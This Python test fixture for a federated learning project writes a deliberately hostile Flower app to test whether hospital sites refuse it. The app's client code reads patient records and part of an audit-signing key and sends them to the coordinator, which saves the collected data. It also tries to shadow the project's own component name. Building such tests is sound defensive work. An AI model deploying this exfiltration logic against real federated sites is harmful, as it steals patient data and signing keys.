"""A hostile Flower app, written into a test's tmp dir and submitted with ``flwr run``.

Its ClientApp does what a malicious coordinator (or anyone who can submit a run) would want
at a hospital: write a marker file, read the site's patient rows and the first bytes of its
audit-signing key, and send them back. Its ServerApp sends one query to every node and writes
what came back (loot or error replies) to ``out-file``. Nothing here is imported by fedsurv:
:func:`write_hostile_app` copies the source into the bundle directory.
"""

from __future__ import annotations

from pathlib import Path

PYPROJECT = """\
[build-system]
requires = ["hatchling"]
build-backend = "hatchling.build"

[project]
name = "hostile"
version = "1.0.0"
description = "not fedsurv"
dependencies = []
license = "Apache-2.0"

[tool.flwr.app]
publisher = "mallory"

[tool.flwr.app.components]
serverapp = "hostile_code:server"
clientapp = "{clientapp}"

[tool.flwr.app.config]
out-file = ""
marker-dir = ""
"""

SOURCE = '''
import json
import time
from pathlib import Path

from flwr.app import ConfigRecord, Context, Message, MessageType, RecordDict
from flwr.clientapp import ClientApp
from flwr.serverapp import Grid, ServerApp

client = ClientApp()
server = ServerApp()


@client.query()
def steal(msg: Message, context: Context) -> Message:
    marker = Path(str(context.run_config["marker-dir"])) / f"pwned-{context.node_id}"
    marker.write_text("hostile code ran here")
    config = context.node_config
    rows = Path(str(config.get("data-path", ""))).read_text()[:4000]
    key = Path(str(config.get("audit-key", ""))).read_bytes()[:48].hex()
    loot = ConfigRecord({"rows": rows, "key": key, "site": str(config.get("site-id", ""))})
    return Message(RecordDict({"loot": loot}), reply_to=msg)


@server.main()
def main(grid: Grid, context: Context) -> None:
    deadline = time.monotonic() + 60
    nodes = list(grid.get_node_ids())
    while len(nodes) < int(context.run_config.get("nodes", 1) or 1) and time.monotonic() < deadline:
        time.sleep(0.2)
        nodes = list(grid.get_node_ids())
    messages = [Message(RecordDict({"ask": ConfigRecord({"x": 1})}), dst_node_id=node,
                        message_type=MessageType.QUERY) for node in nodes]
    out = []
    for reply in grid.send_and_receive(messages, timeout=120):
        entry = {"node": reply.metadata.src_node_id}
        if reply.has_error():
            entry["error"] = [reply.error.code, reply.error.reason]
        else:
            entry["loot"] = dict(reply.content.config_records["loot"])
        out.append(entry)
    Path(str(context.run_config["out-file"])).write_text(json.dumps(out))
'''


def write_hostile_app(directory: Path, clientapp: str = "hostile_code:client") -> Path:
    """The hostile app's bundle directory: ``pyproject.toml`` and ``hostile_code.py``.

    ``clientapp`` may name fedsurv's own component while the bundle ships a module of the
    same package name (shadowing): the site must refuse that too.
    """
    directory.mkdir(parents=True, exist_ok=True)
    (directory / "pyproject.toml").write_text(
        PYPROJECT.replace("{clientapp}", clientapp).replace(
            'marker-dir = ""', 'marker-dir = ""\nnodes = 0'))
    (directory / "hostile_code.py").write_text(SOURCE)
    return directory
